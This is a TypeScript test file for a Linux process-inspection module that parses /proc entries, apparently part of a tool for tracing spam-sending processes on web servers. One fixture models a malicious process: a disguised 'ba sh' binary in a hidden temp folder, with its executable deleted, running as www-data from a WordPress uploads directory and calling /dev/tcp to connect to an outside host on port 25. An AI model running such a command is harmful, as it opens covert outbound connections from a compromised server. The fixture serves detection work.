import { existsSync } from "node:fs";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createFakeProcTree, fakeStatus, type FakeProcTree } from "./fake-proc-tree.test-support.js";
import { PasswdCache } from "./read-passwd.js";
import {
  parseProcStatStartTime,
  parseProcStatus,
  readProcessInfo,
  readProcessStartTime,
  splitCmdline,
  splitDeletedSuffix,
  type ProcessInfo,
} from "./read-process-info.js";

// Real /proc/PID/stat captured for a copied bash named "ba sh" (start time 27495).
const REAL_STAT =
  "4509 (ba sh) S 4495 4495 2366 0 -1 4194304 205 0 0 0 0 0 0 0 20 0 1 0 27495 4464640 782 18446744073709551615 94280284065792 94280284855197 140729322450528 0 0 0 65536 4 1132560123 1 0 0 17 0 0 0 0 0 0 94280285088496 94280285136740 94280360177664 140729322457759 140729322457829 140729322457829 140729322459111 0\n";

describe("parseProcStatus", () => {
  it.each([
    { name: "real status", input: "Name:\tba sh\nUmask:\t0022\nState:\tS (sleeping)\nTgid:\t4509\nNgid:\t0\nPid:\t4509\nPPid:\t4495\nTracerPid:\t0\nUid:\t33\t0\t0\t0\nGid:\t0\t0\t0\t0\n", output: { ppid: 4495, uid: 33 } },
    { name: "missing fields", input: "Name:\tx\n", output: { ppid: null, uid: null } },
    { name: "empty", input: "", output: { ppid: null, uid: null } },
  ])("$name", ({ input, output }) => {
    expect(parseProcStatus(input)).toEqual(output);
  });
});

describe("parseProcStatStartTime", () => {
  it.each([
    { name: "real stat with a space in comm", input: REAL_STAT, output: 27495 },
    { name: "comm containing ') '", input: "12 (a) b) S 1 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 999 0 0\n", output: 999 },
    { name: "truncated", input: "12 (a) S 1 1", output: null },
    { name: "no parenthesis", input: "garbage", output: null },
  ])("$name", ({ input, output }) => {
    expect(parseProcStatStartTime(input)).toBe(output);
  });
});

describe("splitCmdline", () => {
  it.each([
    { name: "normal", input: "/usr/bin/php\0-f\0/var/www/send.php\0", output: ["/usr/bin/php", "-f", "/var/www/send.php"] },
    { name: "empty argument in the middle is kept", input: "a\0\0b\0", output: ["a", "", "b"] },
    { name: "rewritten title padded with NULs", input: "nginx: worker process\0\0\0\0\0", output: ["nginx: worker process"] },
    { name: "kernel thread", input: "", output: [] },
    { name: "no final NUL", input: "sendmail: accepting connections", output: ["sendmail: accepting connections"] },
  ])("$name", ({ input, output }) => {
    expect(splitCmdline(input)).toEqual(output);
  });
});

describe("splitDeletedSuffix", () => {
  it.each([
    { input: "/tmp/.x/mailer (deleted)", output: { path: "/tmp/.x/mailer", deleted: true } },
    { input: "/usr/sbin/exim4", output: { path: "/usr/sbin/exim4", deleted: false } },
    { input: "/usr/bin/deleted", output: { path: "/usr/bin/deleted", deleted: false } },
  ])("$input", ({ input, output }) => {
    expect(splitDeletedSuffix(input)).toEqual(output);
  });
});

describe("readProcessInfo", () => {
  let tree: FakeProcTree;
  let passwdDir: string;
  let passwd: PasswdCache;
  beforeAll(async () => {
    tree = await createFakeProcTree([
      {
        pid: 4509,
        status: fakeStatus("ba sh", 4495, 33),
        stat: REAL_STAT,
        comm: "ba sh\n",
        cmdline: "/tmp/.ICE-unix/ba sh\0-c\0exec 3<>/dev/tcp/203.0.113.5/25\0",
        exe: "/tmp/.ICE-unix/ba sh (deleted)",
        cwd: "/var/www/site1/wp-content/uploads",
      },
      { pid: 4510 },
      { pid: 4511, status: fakeStatus("kworker/0:1", 2, 4242), comm: "kworker/0:1\n", cmdline: "" },
    ]);
    passwdDir = await mkdtemp(join(tmpdir(), "spamtrace-passwd-"));
    await writeFile(join(passwdDir, "passwd"), "root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n");
    passwd = new PasswdCache({ path: join(passwdDir, "passwd") });
  });
  afterAll(async () => {
    await tree.remove();
    await rm(passwdDir, { recursive: true, force: true });
  });

  it.each<{ name: string; pid: number; output: ProcessInfo }>([
    {
      name: "every field readable, deleted executable",
      pid: 4509,
      output: {
        pid: 4509,
        ppid: 4495,
        uid: 33,
        user: "www-data",
        comm: "ba sh",
        argv: ["/tmp/.ICE-unix/ba sh", "-c", "exec 3<>/dev/tcp/203.0.113.5/25"],
        exe: "/tmp/.ICE-unix/ba sh",
        exe_deleted: true,
        cwd: "/var/www/site1/wp-content/uploads",
        start_time_ticks: 27495,
      },
    },
    {
      name: "process vanished: only the directory is left",
      pid: 4510,
      output: { pid: 4510, ppid: null, uid: null, user: null, comm: null, argv: [], exe: null, exe_deleted: false, cwd: null, start_time_ticks: null },
    },
    {
      name: "no such pid at all",
      pid: 99999,
      output: { pid: 99999, ppid: null, uid: null, user: null, comm: null, argv: [], exe: null, exe_deleted: false, cwd: null, start_time_ticks: null },
    },
    {
      name: "kernel-thread-like: no exe, empty cmdline, uid without passwd entry",
      pid: 4511,
      output: { pid: 4511, ppid: 2, uid: 4242, user: null, comm: "kworker/0:1", argv: [], exe: null, exe_deleted: false, cwd: null, start_time_ticks: null },
    },
  ])("$name", async ({ pid, output }) => {
    expect(await readProcessInfo(pid, { procRoot: tree.root, passwd })).toEqual(output);
  });

  it("readProcessStartTime reads field 22, null when the process is gone", async () => {
    expect(await readProcessStartTime(4509, tree.root)).toBe(27495);
    expect(await readProcessStartTime(4510, tree.root)).toBeNull();
  });

  it.skipIf(!existsSync("/proc/self/stat"))("reads this very process from the real /proc", async () => {
    const info = await readProcessInfo(process.pid);
    expect(info.pid).toBe(process.pid);
    expect(info.ppid).toBe(process.ppid);
    expect(info.uid).toBe(process.getuid?.());
    expect(info.cwd).toBe(process.cwd());
    expect(info.exe_deleted).toBe(false);
    expect(info.start_time_ticks).toBeGreaterThan(0);
  });
});
